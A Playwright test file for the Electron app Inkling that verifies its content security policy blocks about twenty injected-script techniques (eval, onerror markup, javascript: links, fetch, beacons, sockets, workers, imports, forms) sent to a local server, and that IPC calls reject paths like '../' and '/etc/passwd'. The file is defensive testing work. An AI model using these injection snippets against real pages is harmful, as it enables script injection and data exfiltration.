import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { launchInkling, type Inkling } from './launch.ts'
import { windowOf } from './window.ts'

let inkling: Inkling
let outside: Server
let address = ''
const arrived: string[] = []

test.beforeAll(async () => {
  outside = createServer(({ url = '' }, response) => {
    arrived.push(url)
    response.setHeader('Access-Control-Allow-Origin', '*').end('globalThis.hasRun = true')
  })
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
  address = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  inkling = await launchInkling()
  await windowOf(inkling.page).readyToTrain()
})
test.afterAll(async () => {
  await inkling.close()
  outside.close()
})

/** What a script that got into the page might try; each runs there as it stands. */
const attacks: Readonly<Record<string, string>> = {
  'an inline script': `const script = document.createElement('script')
    script.append('globalThis.hasRun = true')
    document.body.append(script)`,
  'a script from outside': `const script = document.createElement('script')
    script.setAttribute('src', outside + '/script.js')
    document.body.append(script)`,
  eval: `eval('globalThis.hasRun = true')`,
  'a function out of text': `new Function('globalThis.hasRun = true')()`,
  'a timer out of text': `setTimeout('globalThis.hasRun = true')`,
  'markup with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="hasRun = true">')`,
  'a handler as an attribute': `const image = document.createElement('img')
    image.setAttribute('onerror', 'hasRun = true')
    image.setAttribute('src', 'data:,')
    document.body.append(image)`,
  'a javascript: link': `const link = document.createElement('a')
    link.setAttribute('href', 'javascript:hasRun = true')
    document.body.append(link)
    link.click()`,
  'a frame': `const frame = document.createElement('iframe')
    frame.src = outside + '/frame.html'
    document.body.append(frame)`,
  'a frame with a document of its own': `const frame = document.createElement('iframe')
    frame.setAttribute('srcdoc', '<script>parent.hasRun = true</script>')
    document.body.append(frame)`,
  'an object': `const object = document.createElement('object')
    object.setAttribute('data', outside + '/object')
    document.body.append(object)`,
  'a picture from outside': `new Image().src = outside + '/picture.png'`,
  'a style sheet from outside': `const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = outside + '/style.css'
    document.head.append(link)`,
  'a request': `await fetch(outside + '/fetch')`,
  'a beacon': `navigator.sendBeacon(outside + '/beacon', 'x')`,
  'a socket': `new WebSocket(outside.replace('http', 'ws') + '/socket')`,
  'an event stream': `new EventSource(outside + '/events')`,
  'a worker from a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("' + outside + '/worker")'])))`,
  'an imported module': `await import(outside + '/module.js')`,
  'a form': `const form = document.createElement('form')
    form.action = outside + '/form'
    document.body.append(form)
    form.submit()`,
  'a base address': `const base = document.createElement('base')
    base.href = outside + '/'
    document.head.append(base)
    await fetch('below-base')`,
}

for (const [name, code] of Object.entries(attacks)) {
  test(`stops ${name}`, async () => {
    const { page } = inkling
    // In a task of its own, since what a debugger runs itself is excused from the policy.
    await page.evaluate(`
      globalThis.violations = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.push(effectiveDirective))
      globalThis.outside = ${JSON.stringify(address)}
      setTimeout(async () => { ${code} })`)
    const violations = () => page.evaluate('violations.length')
    await expect.poll(violations, { message: 'the policy was broken and held' }).toBeGreaterThan(0)
    await page.waitForTimeout(50)
    expect(arrived).toEqual([])
    expect(await page.evaluate(() => 'hasRun' in globalThis)).toBe(false)
    expect(await page.evaluate('document.title')).toBe('Inkling')
  })
}

test('gives the page nothing of Node and Electron but the calls of the contract', async () => {
  const found = await inkling.page.evaluate(() => {
    const page = globalThis as unknown as Record<string, unknown>
    const names = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron']
    return names.filter((name) => page[name] !== undefined)
  })
  expect(found).toEqual([])
})

test('refuses calls whose arguments are wrong, with a code and a sentence', async () => {
  const outcomes = await inkling.page.evaluate(async () => {
    const { host } = (
      globalThis as unknown as {
        inkling: { host: Record<string, (...args: unknown[]) => Promise<unknown>> }
      }
    ).inkling
    return Promise.all([
      host['openModelAt']?.('../model.safetensors'),
      host['openModelAt']?.({ path: '/a' }),
      host['changeSettings']?.({ theme: 'sepia' }),
      host['showInFolder']?.('/etc/passwd'),
      host['settings']?.('too', 'many'),
    ])
  })
  const refusal = (code: string) => ({ ok: false, error: expect.objectContaining({ code }) })
  expect(outcomes).toEqual([
    refusal('PAYLOAD'),
    refusal('PAYLOAD'),
    refusal('SETTINGS'),
    refusal('UNKNOWN_PLACE'),
    refusal('PAYLOAD'),
  ])
})
